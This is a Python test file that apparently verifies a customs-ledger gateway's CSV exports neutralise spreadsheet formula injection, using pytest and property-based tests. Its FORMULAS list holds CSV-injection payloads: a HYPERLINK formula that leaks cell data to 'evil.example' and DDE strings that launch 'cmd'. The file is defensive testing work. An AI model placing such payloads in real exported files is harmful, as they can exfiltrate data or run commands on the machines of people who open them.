"""CSV downloads neutralise formula cells (OWASP "CSV injection"): text that came from an event and starts
with = + - @ TAB or CR gets a leading apostrophe; numbers the gateway writes from numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ipledger.chaincode.testing.mrns import placement_mrn
from ipledger.gateway import audit, csvsafe
from ipledger.gateway import reports
from ipledger.gateway.importer import LineOutcome, write_report

from .conftest import AUTH, day, place

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


ONE_LINE = [f for f in FORMULAS if f.isprintable()]   # a description is one line: no tab, no carriage return


def test_cells_from_events_are_neutralised_in_bill_and_inventory_csv(scenario, api):
    # lots whose description (free text of the event) is a formula
    for n, text in enumerate(ONE_LINE, start=1):
        lot = place(f"LX{n}", 1, placement_mrn(9100 + n))
        lot["description"] = text
        api.post(lot, "OperatorMSP")
    for text in set(FORMULAS) - set(ONE_LINE):   # control characters: refused, never on the ledger
        lot = place("LXC", 1, placement_mrn(9199))
        lot["description"] = text
        api.post(lot, "OperatorMSP", status=400)
    bill = rows_of(api.get(f"/api/v1/reports/bill-of-discharge/{AUTH}?as_of={day(1)}&format=csv",
                           "OperatorMSP").get_data(as_text=True))
    described = {r["id"]: r["description"] for r in bill if r["section"] == "lot"}
    for n, text in enumerate(ONE_LINE, start=1):
        assert described[f"LX{n}"] == "'" + text, n                # inert text, nothing else changed
    lot_rows = {r["id"]: r for r in bill if r["section"] == "lot"}
    assert lot_rows["L1"]["description"] == "used tyres" and lot_rows["L1"]["quantity"] == "1000"
    inventory = rows_of(api.get(f"/api/v1/reports/inventory?as_of={day(1)}&format=csv",
                                "CustomsMSP").get_data(as_text=True))
    described = {r["id"]: r["description"] for r in inventory}
    for n, text in enumerate(ONE_LINE, start=1):
        assert described[f"LX{n}"] == "'" + text, n
    assert "LXC" not in described
    assert {r["id"]: r["quantity"] for r in inventory}["LX1"] == "1"


def test_numbers_stay_numbers_text_that_looks_like_one_does_not():
    data = {"lines": [
        {"authorisation_id": AUTH, "goods": "LOT", "id": "L1", "quantity": -5, "deviation": -2.5, "text": "-5",
         "plus": "+33 1 23", "list": ["=1+1"], "obj": {"a": "=1"}, "none": None, "flag": True},
    ]}
    row = rows_of(reports.inventory_csv(data))[0]
    assert row["quantity"] == "-5" and row["deviation"] == "-2.5"      # the gateway's own numbers
    assert row["text"] == "'-5" and row["plus"] == "'+33 1 23"         # text, even if it looks like a number
    assert row["list"] == '["=1+1"]' and row["obj"] == '{"a":"=1"}'    # JSON starts with [ or {: inert
    assert row["none"] == "" and row["flag"] == "True"


@pytest.mark.parametrize("text", FORMULAS)
def test_audit_csv_neutralises_certificate_subjects_and_event_text(text):
    entry = {"block_number": 7, "tx_id": "ab" * 32, "recorded_at": "2026-03-02T09:00:00Z",
             "event_type": "PlaceUnderProcedure", "event_id": "erp-1", "authorisation_id": AUTH,
             "submitting_org": "OperatorMSP", "submitter_subject": text, "endorsing_orgs": [text],
             "endorsers": [{"msp_id": "OperatorMSP", "subject": text}], "lots": ["L1"], "batches": [],
             "event": {"description": text}}
    row = rows_of(audit.to_csv([entry]))[0]
    # a carriage return is a line break to a spreadsheet that splits on ';': what follows it starts a cell too
    inert = "'" + text.replace("\r=", "\r'=")
    assert row["submitter_subject"] == inert
    assert row["endorsing_orgs"] == inert
    assert row["block_number"] == "7" and row["event"].startswith("{")
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in row.values())


def test_import_report_csv_neutralises_what_came_from_the_file_or_the_gateway(tmp_path):
    out = tmp_path / "report.csv"
    write_report(out, [LineOutcome(line=2, event_id="=cmd", type="@SUM(A1)", status=400, outcome="INVALID",
                                   tx_id=None, block_number=None, problem_type="invalid-event",
                                   detail="-1 is less than the minimum of 1")])
    row = rows_of(out.read_text())[0]
    assert (row["line"], row["event_id"], row["type"], row["detail"]) == (
        "2", "'=cmd", "'@SUM(A1)", "'-1 is less than the minimum of 1")


def _cells_read_by(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]


@pytest.mark.parametrize("text, inert", [
    ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),      # Excel in a ';' locale: a cell '=cmd|…'
    ('x; ""=1+1', "x;' \"\"=1+1"),                               # past spaces and quotes
    ("counted 4\n-2 missing", "counted 4\n'-2 missing"),         # a line break: a new row to that spreadsheet
    ("L1;L2", "L1;L2"), ("a;b - c", "a;b - c"), ("x;;@A1", "x;;'@A1")])
def test_a_cell_a_semicolon_spreadsheet_would_start_inside_the_text_is_made_inert(text, inert):
    assert csvsafe.cell(text) == inert


@settings(max_examples=400, deadline=None)
@given(st.lists(st.text(alphabet='=+-@;\n\r\t "\',ab1', max_size=12), min_size=1, max_size=4))
def test_no_spreadsheet_reading_the_csv_sees_a_formula_and_only_apostrophes_are_added(texts):
    """Whatever the cells, neither a ',' nor a ';' reader of the file finds a cell starting with a formula
    character, and each cell is its text with apostrophes added, nothing else. (A ';' reader splits the file's
    lines at line breaks inside our quoted cells too, and takes the quote that closes one for a cell's opening.)"""
    out = io.StringIO()
    csv.writer(out).writerow([csvsafe.cell(t) for t in texts])
    for delimiter in (",", ";"):
        # past the spaces and quotes a cell may start with: no formula character (a cell of line breaks and
        # quotes alone — a ';' reader's piece of the quote that closes one of ours — is no formula)
        assert not [c for c in _cells_read_by(out.getvalue(), delimiter)
                    if c.lstrip(' "').startswith(csvsafe.FORMULA_STARTS) and c.strip(' "\t\r\n')], delimiter
    for text, written in zip(texts, next(csv.reader(io.StringIO(out.getvalue(), newline="")))):
        assert _apostrophes_only_where_a_cell_may_start(text, written), (text, written)


def _apostrophes_only_where_a_cell_may_start(text: str, written: str) -> bool:
    """``written`` is ``text`` with apostrophes inserted, each at its start or after a ';' or a line break."""
    i = j = 0
    while i < len(written):
        if j < len(text) and written[i] == text[j]:
            i, j = i + 1, j + 1
        elif written[i] == "'" and (j == 0 or text[j - 1] in ";\r\n"):
            i += 1
        else:
            return False
    return j == len(text)
